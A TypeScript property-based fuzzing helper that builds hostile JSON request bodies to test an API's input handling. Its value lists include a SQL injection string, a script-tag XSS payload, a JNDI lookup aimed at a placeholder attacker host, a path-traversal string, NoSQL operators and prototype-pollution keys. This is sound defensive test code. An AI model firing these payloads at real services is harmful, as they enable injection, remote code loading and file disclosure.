import fc from '../property.ts';

const texts = [
  '',
  ' ',
  "' OR '1'='1' --",
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  '../../etc/passwd',
  '\u0000',
  '\ud800',
  '\u202e',
  'line\nbreak',
  'a'.repeat(100_000),
  '9'.repeat(400),
];
const numbers = [-1, 0.5, 1e308, -0, Number.MAX_SAFE_INTEGER + 2, 2 ** 53];
const things: readonly unknown[] = [
  null,
  true,
  [],
  {},
  [[]],
  { S: 'x' },
  { N: '1' },
  { $gt: '' },
  { toString: 1 },
  [null],
  Array.from({ length: 1_000 }, () => 0),
];
const deep = (levels: number): unknown =>
  Array.from({ length: levels }).reduce<unknown>((inner) => ({ a: inner }), 1);

/** Values that have hurt somebody's API before, and any others. */
const hostileValue = fc.oneof(
  fc.constantFrom<unknown>(...texts, ...numbers, ...things, deep(500)),
  fc.jsonValue({ maxDepth: 4 }),
  fc.string({ unit: 'binary' }),
);

const names = [
  '__proto__',
  'constructor',
  'prototype',
  'id',
  'version',
  'references',
  'list',
  'createdBy',
  'heldBy',
  'toString',
  '',
  '$where',
  'a.b',
  'é',
];

const at = (body: unknown, [first, ...rest]: readonly string[], value: unknown): unknown => {
  if (first === undefined) return value;
  // Not assigned: `__proto__` shall be a field like any other, as JSON.parse makes it.
  const entries = Object.entries(Object(body)).filter(([name]) => name !== first);
  return Object.fromEntries([...entries, [first, at(Object(body)[first], rest, value)]]);
};

const pathsOf = (body: unknown, path: readonly string[] = []): readonly (readonly string[])[] =>
  typeof body === 'object' && body !== null
    ? [path, ...Object.entries(body).flatMap(([name, inner]) => pathsOf(inner, [...path, name]))]
    : [path];

/**
 * Texts of bodies that are meant to hurt: a good one with one place spoilt, with a stranger's
 * field, cut off, or anything at all.
 */
export const hostileBody = (good: unknown): fc.Arbitrary<string> => {
  const paths = pathsOf(good);
  const text = JSON.stringify(good);
  return fc.oneof(
    {
      weight: 4,
      arbitrary: fc
        .tuple(fc.constantFrom(...paths), hostileValue)
        .map(([path, value]) => JSON.stringify(at(good, path, value)) ?? 'x'),
    },
    {
      weight: 2,
      arbitrary: fc
        .tuple(fc.constantFrom(...paths), fc.constantFrom(...names), hostileValue)
        .map(([path, name, value]) => JSON.stringify(at(good, [...path, name], value))),
    },
    {
      weight: 1,
      arbitrary: fc
        .integer({ min: 1, max: Math.max(1, text.length - 1) })
        .map((end) => text.slice(0, end)),
    },
    { weight: 1, arbitrary: fc.json() },
    { weight: 1, arbitrary: fc.string({ unit: 'binary', minLength: 1 }) },
    {
      weight: 1,
      arbitrary: fc.constantFrom(
        '{"a":1e999}',
        `${'['.repeat(50_000)}`,
        '{"a":1,"a":2}',
        '\ufeff{}',
        'NaN',
        "{'a':1}",
        '[1,]',
      ),
    },
  );
};
